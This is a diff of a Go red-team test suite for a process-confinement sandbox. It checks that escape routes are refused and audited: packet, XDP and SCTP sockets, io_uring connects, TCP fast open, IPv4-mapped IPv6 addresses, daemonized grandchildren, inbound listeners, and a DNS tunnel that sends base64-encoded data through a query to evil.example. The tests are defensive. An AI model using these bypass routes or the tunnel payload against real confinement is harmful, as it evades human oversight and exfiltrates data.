@@ -9,7 +9,6 @@ import (
 	"os/exec"
 	"path/filepath"
 	"slices"
-	"strconv"
 	"strings"
 	"sync"
 	"syscall"
@@ -17,8 +16,10 @@ import (
 
 	v1 "github.com/agentfence/agentfence/api/v1"
 
+	"golang.org/x/sys/unix"
+
 	"github.com/agentfence/agentfence/audit"
-	"github.com/agentfence/agentfence/internal/gatetest"
+	"github.com/agentfence/agentfence/internal/kerneltest"
 )
 
 // The red-team suite: each test takes one route out of a session
@@ -28,30 +29,21 @@ import (
 // are in escape_test.go, the dropped capabilities in capabilities_test.go.
 
 // probe is one result of a member's probe: the pid that acted and what it got.
-type probe struct {
-	pid    uint32
-	result string
-}
-
 // runProbe runs this binary as a member under `agentfence run` with allow
-// rules and extra run flags, doing the gatetest actions.
-func runProbe(t *testing.T, d *daemon, runFlags []string, actions ...string) []probe {
+// rules and extra run flags, doing the probe's operations.
+func runProbe(t *testing.T, d *daemon, runFlags []string, ops ...kerneltest.Op) []kerneltest.Result {
 	t.Helper()
 	args := append([]string{"run", "--intent", "bypass " + t.Name()}, runFlags...)
-	stdout, stderr, code := d.cli(t, gatetest.Env(actions...), append(args, "--", os.Args[0])...)
+	stdout, stderr, code := d.cli(t, kerneltest.Env(t, kerneltest.Options{}, ops...), append(args, "--", os.Args[0])...)
 	if code != 0 {
 		t.Fatalf("run: exit %d: %s %s", code, stdout, stderr)
 	}
-	var out []probe
-	for _, line := range strings.Split(strings.TrimSpace(stdout), "\n") {
-		var p probe
-		if _, err := fmt.Sscan(line, &p.pid, &p.result); err != nil {
-			t.Fatalf("probe output %q", stdout)
-		}
-		out = append(out, p)
+	out, err := kerneltest.ParseResults(stdout)
+	if err != nil {
+		t.Fatal(err)
 	}
-	if len(out) != len(actions) {
-		t.Fatalf("probe gave %d results for %d actions: %q", len(out), len(actions), stdout)
+	if len(out) != len(ops) {
+		t.Fatalf("probe gave %d results for %d operations: %q", len(out), len(ops), stdout)
 	}
 	return out
 }
@@ -78,20 +70,20 @@ func (d *daemon) lsmActive() bool {
 // records the refusal. Outside a session the same socket works.
 func TestBypassPacketSocketFromRun(t *testing.T) {
 	d := startDaemon(t)
-	packet := "socket 17 3 768" // AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)
-	if res := gatetest.Run(t, "", gatetest.Options{}, packet); res[0].Result != "ok" {
-		t.Fatalf("outside a session, a root packet socket: %s", res[0].Result)
+	packet := kerneltest.PacketSocket
+	if res := kerneltest.Run(t, "", kerneltest.Options{}, packet); res[0].Outcome() != "ok" {
+		t.Fatalf("outside a session, a root packet socket: %s", res[0].Outcome())
 	}
-	res := runProbe(t, d, []string{"--keep-cap", "net_raw", "--allow", "udp://127.0.0.53:53"}, packet, "socket 44 3 0")
-	if res[0].result != "EAFNOSUPPORT" || res[1].result != "EAFNOSUPPORT" {
-		t.Errorf("member packet and XDP sockets: %s %s, want EAFNOSUPPORT", res[0].result, res[1].result)
+	res := runProbe(t, d, []string{"--keep-cap", "net_raw", "--allow", "udp://127.0.0.53:53"}, packet, kerneltest.Socket{Family: unix.AF_XDP, Type: unix.SOCK_RAW})
+	if res[0].Outcome() != "EAFNOSUPPORT" || res[1].Outcome() != "EAFNOSUPPORT" {
+		t.Errorf("member packet and XDP sockets: %s %s, want EAFNOSUPPORT", res[0].Outcome(), res[1].Outcome())
 	}
-	r := d.recordOf(t, "packet socket", audit.KindSocket, res[0].pid, denied)
+	r := d.recordOf(t, "packet socket", audit.KindSocket, uint32(res[0].PID), denied)
 	if r.Socket == nil || r.Socket.Family != "packet" || r.Socket.Type != "raw" || r.Socket.RefusedBy != "seccomp" ||
 		r.Outcome.Errno != "EAFNOSUPPORT" || r.Outcome.Reason != "socket_family" || r.Session == nil {
 		t.Errorf("record %+v socket %+v outcome %+v", r, r.Socket, r.Outcome)
 	}
-	d.recordOf(t, "xdp socket", audit.KindSocket, res[1].pid, func(r audit.Record) bool {
+	d.recordOf(t, "xdp socket", audit.KindSocket, uint32(res[1].PID), func(r audit.Record) bool {
 		return r.Socket != nil && r.Socket.Family == "xdp"
 	})
 }
@@ -107,10 +99,10 @@ func TestBypassPacketSocketFromBoundMember(t *testing.T) {
 		t.Fatal(err)
 	}
 	d := startDaemon(t, "--config", cfg)
-	ln := gatetest.Listen(t, "tcp4", "127.0.0.1:0")
+	ln := kerneltest.Listen(t, "tcp4", "127.0.0.1:0")
 	s := d.openSession(t, "--intent", "bound packet", "--allow", "tcp://"+ln.String())
-	p := gatetest.Start(t, "", gatetest.Options{}, true, "socket 17 3 768", "tcp "+ln.String())
-	if res, _ := p.Next(); res != "ready" {
+	p := kerneltest.Start(t, "", kerneltest.Options{}, true, kerneltest.PacketSocket, kerneltest.Connect{Addr: ln})
+	if res := p.Next(); res.Outcome() != kerneltest.Ready {
 		t.Fatalf("probe: %s", res)
 	}
 	if _, stderr, code := d.cli(t, nil, "session", "bind", "--socket", d.socket, s.ID, "--pid", fmt.Sprint(p.PID)); code != 0 {
@@ -138,7 +130,7 @@ func TestBypassPacketSocketFromBoundMember(t *testing.T) {
 	}
 	p.Go()
 	if d.lsmActive() {
-		if r1, _ := p.Next(); r1 != "EPERM" {
+		if r1 := p.Next(); r1.Outcome() != "EPERM" {
 			t.Errorf("bound member's packet socket: %s, want EPERM", r1)
 		}
 		r := d.recordOf(t, "packet socket", audit.KindSocket, pid, denied)
@@ -168,23 +160,23 @@ func TestBypassPacketSocketFromBoundMember(t *testing.T) {
 // kernel has it) are refused at creation and recorded.
 func TestBypassOtherInetProtocols(t *testing.T) {
 	d := startDaemon(t)
-	sctp := "socket 2 1 132" // AF_INET, SOCK_STREAM, IPPROTO_SCTP
-	direct := gatetest.Run(t, "", gatetest.Options{}, sctp)[0].Result
-	res := runProbe(t, d, []string{"--keep-cap", "net_raw", "--allow", "udp://127.0.0.53:53"}, "raw", sctp)
-	if res[0].result != "EPERM" {
-		t.Errorf("member raw inet socket: %s, want EPERM", res[0].result)
+	sctp := kerneltest.Socket{Family: unix.AF_INET, Type: unix.SOCK_STREAM, Proto: unix.IPPROTO_SCTP}
+	direct := kerneltest.Run(t, "", kerneltest.Options{}, sctp)[0].Outcome()
+	res := runProbe(t, d, []string{"--keep-cap", "net_raw", "--allow", "udp://127.0.0.53:53"}, kerneltest.RawICMP, sctp)
+	if res[0].Outcome() != "EPERM" {
+		t.Errorf("member raw inet socket: %s, want EPERM", res[0].Outcome())
 	}
-	d.recordOf(t, "raw socket", audit.KindSocket, res[0].pid, func(r audit.Record) bool {
+	d.recordOf(t, "raw socket", audit.KindSocket, uint32(res[0].PID), func(r audit.Record) bool {
 		return denied(r) && r.Outcome.Reason == "socket_type"
 	})
 	if direct != "ok" {
 		t.Logf("no SCTP on this kernel (%s): not tried", direct)
 		return
 	}
-	if res[1].result != "EPERM" {
-		t.Errorf("member SCTP socket: %s, want EPERM", res[1].result)
+	if res[1].Outcome() != "EPERM" {
+		t.Errorf("member SCTP socket: %s, want EPERM", res[1].Outcome())
 	}
-	d.recordOf(t, "sctp socket", audit.KindSocket, res[1].pid, func(r audit.Record) bool {
+	d.recordOf(t, "sctp socket", audit.KindSocket, uint32(res[1].PID), func(r audit.Record) bool {
 		return denied(r) && r.Outcome.Reason == "socket_type"
 	})
 }
@@ -194,26 +186,25 @@ func TestBypassOtherInetProtocols(t *testing.T) {
 // by pid, which nothing keeps from io_uring.
 func TestBypassIOUring(t *testing.T) {
 	d := startDaemon(t)
-	in := gatetest.Serve(t, "127.0.0.1:0")
-	out := gatetest.Serve(t, "127.0.0.1:0")
-	if res := runProbe(t, d, []string{"--allow", "tcp://" + in.String()}, "uring "+in.String()); res[0].result != "setup:ENOSYS" {
-		t.Errorf("io_uring under run: %s, want setup:ENOSYS", res[0].result)
+	in := kerneltest.Serve(t, "127.0.0.1:0")
+	out := kerneltest.Serve(t, "127.0.0.1:0")
+	if res := runProbe(t, d, []string{"--allow", "tcp://" + in.String()}, kerneltest.Uring{Addr: in}); res[0].Outcome() != "setup:ENOSYS" {
+		t.Errorf("io_uring under run: %s, want setup:ENOSYS", res[0].Outcome())
 	}
 	s := d.openSession(t, "--intent", "uring", "--allow", "tcp://"+in.String())
-	p := gatetest.Start(t, "", gatetest.Options{}, true, "uring "+out.String(), "uring "+in.String())
-	if res, _ := p.Next(); res != "ready" {
+	p := kerneltest.Start(t, "", kerneltest.Options{}, true, kerneltest.Uring{Addr: out}, kerneltest.Uring{Addr: in})
+	if res := p.Next(); res.Outcome() != kerneltest.Ready {
 		t.Fatalf("probe: %s", res)
 	}
 	if _, stderr, code := d.cli(t, nil, "session", "bind", "--socket", d.socket, s.ID, "--pid", fmt.Sprint(p.PID)); code != 0 {
 		t.Fatalf("bind: %s", stderr)
 	}
 	p.Go()
-	r1, _ := p.Next()
-	r2, _ := p.Next()
-	if strings.HasPrefix(r1, "setup:") {
+	r1, r2 := p.Next(), p.Next()
+	if r1.Stage == "setup" {
 		t.Skipf("no io_uring on this kernel: %s", r1)
 	}
-	if r1 != "EPERM" || r2 != "ok" {
+	if r1.Outcome() != "EPERM" || r2.Outcome() != "ok" {
 		t.Errorf("io_uring connect out of scope %s, in scope %s; want EPERM, ok", r1, r2)
 	}
 	d.recordOf(t, "io_uring connect", audit.KindConnect, uint32(p.PID), func(r audit.Record) bool {
@@ -227,32 +218,33 @@ func TestBypassIOUring(t *testing.T) {
 // connect and recorded under the acting process.
 func TestBypassConnectShapes(t *testing.T) {
 	d := startDaemon(t)
-	in := gatetest.Serve(t, "127.0.0.1:0")
-	out := gatetest.Serve(t, "127.0.0.1:0")
-	mapped := fmt.Sprintf("[::ffff:127.0.0.1]:%d", out.Port())
-	res := runProbe(t, d, []string{"--allow", "tcp://" + in.String()}, "tfo "+out.String(), "tcp6 "+mapped, "tcp6 "+
-		fmt.Sprintf("[::ffff:127.0.0.1]:%d", in.Port()))
-	if res[0].result != "EPERM" || res[1].result != "EPERM" || res[2].result != "ok" {
+	in := kerneltest.Serve(t, "127.0.0.1:0")
+	out := kerneltest.Serve(t, "127.0.0.1:0")
+	mapped := func(ap netip.AddrPort) netip.AddrPort {
+		return netip.AddrPortFrom(netip.AddrFrom16(ap.Addr().As16()), ap.Port())
+	}
+	res := runProbe(t, d, []string{"--allow", "tcp://" + in.String()}, kerneltest.FastOpen{Addr: out},
+		kerneltest.Connect{Addr: mapped(out), V6: true}, kerneltest.Connect{Addr: mapped(in), V6: true})
+	if res[0].Outcome() != "EPERM" || res[1].Outcome() != "EPERM" || res[2].Outcome() != "ok" {
 		t.Errorf("fast open, mapped out of scope, mapped in scope: %v; want EPERM EPERM ok", res)
 	}
 	for i, what := range []string{"fast open", "v4-mapped"} {
-		r := d.recordOf(t, what, audit.KindConnect, res[i].pid, denied)
+		r := d.recordOf(t, what, audit.KindConnect, uint32(res[i].PID), denied)
 		if r.Destination == nil || r.Destination.IP != "127.0.0.1" || r.Destination.Port != out.Port() {
 			t.Errorf("%s record destination %+v", what, r.Destination)
 		}
 	}
 
-	stdout, stderr, code := d.cli(t, append(gatetest.Env("tcp "+out.String()), "AGENTFENCE_PROBE_DEPTH=2", "AGENTFENCE_PROBE_DETACH=1"),
+	stdout, stderr, code := d.cli(t, kerneltest.Env(t, kerneltest.Options{Depth: 2, Detach: true}, kerneltest.Connect{Addr: out}),
 		"run", "--intent", "daemonized", "--allow", "tcp://"+in.String(), "--", os.Args[0])
-	var pid uint32
-	var result string
-	if _, err := fmt.Sscan(stdout, &pid, &result); err != nil || code != 0 {
-		t.Fatalf("run: exit %d: %q %s", code, stdout, stderr)
+	got, err := kerneltest.ParseResults(stdout)
+	if err != nil || len(got) == 0 || code != 0 {
+		t.Fatalf("run: exit %d: %q %s (%v)", code, stdout, stderr, err)
 	}
-	if result != "EPERM" {
-		t.Errorf("daemonized grandchild: %s, want EPERM", result)
+	if got[0].Outcome() != "EPERM" {
+		t.Errorf("daemonized grandchild: %s, want EPERM", got[0])
 	}
-	d.recordOf(t, "daemonized grandchild", audit.KindConnect, pid, denied)
+	d.recordOf(t, "daemonized grandchild", audit.KindConnect, uint32(got[0].PID), denied)
 }
 
 // A DNS tunnel: a member whose scope allows a resolver asks it for
@@ -295,8 +287,9 @@ func TestBypassDNSTunnel(t *testing.T) {
 
 	const tunnel = "aGVsbG8gd29ybGQ.evil.example"
 	res := runProbe(t, d, []string{"--allow", "udp://127.0.55.1:53", "--allow", "api.example.com:443"},
-		"dnsq 127.0.55.1:53 "+tunnel, "dnsq 127.0.55.1:53 api.example.com")
-	if res[0].result != "EPERM" || res[1].result != "ok" {
+		kerneltest.DNSQuery{Net: "udp", Server: netip.MustParseAddrPort("127.0.55.1:53"), Name: tunnel},
+		kerneltest.DNSQuery{Net: "udp", Server: netip.MustParseAddrPort("127.0.55.1:53"), Name: "api.example.com"})
+	if res[0].Outcome() != "EPERM" || res[1].Outcome() != "ok" {
 		t.Errorf("tunnel query, allowed query: %v; want EPERM ok", res)
 	}
 	mu.Lock()
@@ -304,7 +297,7 @@ func TestBypassDNSTunnel(t *testing.T) {
 		t.Errorf("the resolver received %q, want only api.example.com", got)
 	}
 	mu.Unlock()
-	r := d.recordOf(t, "tunnel query", audit.KindDNS, res[0].pid, denied)
+	r := d.recordOf(t, "tunnel query", audit.KindDNS, uint32(res[0].PID), denied)
 	if r.Query == nil || r.Query.Name != tunnel || r.Query.Type != "A" || r.Outcome.Reason != "dns_name_unscoped" ||
 		r.Outcome.Errno != "EPERM" || r.Destination == nil || r.Destination.IP != "127.0.55.1" || r.Destination.Port != 53 {
 		t.Errorf("tunnel record: query %+v outcome %+v destination %+v", r.Query, r.Outcome, r.Destination)
@@ -326,38 +319,38 @@ func TestBypassInbound(t *testing.T) {
 	}
 	free := l.Addr().(*net.TCPAddr).Port
 	l.Close()
-	bind := fmt.Sprintf("bindtcp 127.0.0.1:%d", free)
+	bind := kerneltest.Bind{Addr: netip.AddrPortFrom(netip.MustParseAddr("127.0.0.1"), uint16(free))}
 	res := runProbe(t, d, []string{"--allow", "udp://127.0.0.53:53"}, bind)
-	if res[0].result != "EPERM" {
-		t.Errorf("member bind of an unnamed port: %s, want EPERM", res[0].result)
+	if res[0].Outcome() != "EPERM" {
+		t.Errorf("member bind of an unnamed port: %s, want EPERM", res[0].Outcome())
 	}
-	r := d.recordOf(t, "bind", audit.KindBind, res[0].pid, denied)
+	r := d.recordOf(t, "bind", audit.KindBind, uint32(res[0].PID), denied)
 	if r.Destination == nil || r.Destination.Port != uint16(free) || r.Outcome.Errno != "EPERM" {
 		t.Errorf("bind record destination %+v outcome %+v", r.Destination, r.Outcome)
 	}
 
 	s := d.openSession(t, "--intent", "listener", "--allow", "udp://127.0.0.53:53")
-	p := gatetest.Start(t, "", gatetest.Options{}, true, "listen -")
-	if res, _ := p.Next(); res != "ready" {
+	p := kerneltest.Start(t, "", kerneltest.Options{}, true, kerneltest.ListenTCP{})
+	if res := p.Next(); res.Outcome() != kerneltest.Ready {
 		t.Fatalf("probe: %s", res)
 	}
 	if _, stderr, code := d.cli(t, nil, "session", "bind", "--socket", d.socket, s.ID, "--pid", fmt.Sprint(p.PID)); code != 0 {
 		t.Fatalf("bind: %s", stderr)
 	}
 	p.Go()
-	out, _ := p.Next()
-	port, err := strconv.Atoi(out)
-	if err != nil {
+	out := p.Next()
+	if out.Err != kerneltest.OK {
 		t.Fatalf("member listen: %s", out)
 	}
-	fd, peerPort := gatetest.Dial(t, netip.AddrPortFrom(netip.MustParseAddr("127.0.0.1"), uint16(port)))
+	port := out.Port
+	fd, peerPort := kerneltest.Dial(t, netip.AddrPortFrom(netip.MustParseAddr("127.0.0.1"), port))
 	r = d.recordOf(t, "inbound", audit.KindInbound, uint32(p.PID), func(r audit.Record) bool {
 		return r.Source != nil && r.Source.Port == peerPort
 	})
-	if !denied(r) || r.Destination == nil || r.Destination.Port != uint16(port) || r.Session == nil || r.Session.ID != s.ID {
+	if !denied(r) || r.Destination == nil || r.Destination.Port != port || r.Session == nil || r.Session.ID != s.ID {
 		t.Errorf("inbound record destination %+v outcome %+v", r.Destination, r.Outcome)
 	}
-	if gatetest.Connected(t, fd, 0) {
+	if kerneltest.Connected(t, fd, 0) {
 		t.Error("the peer's connect completed although the gate dropped its SYN")
 	}
 }
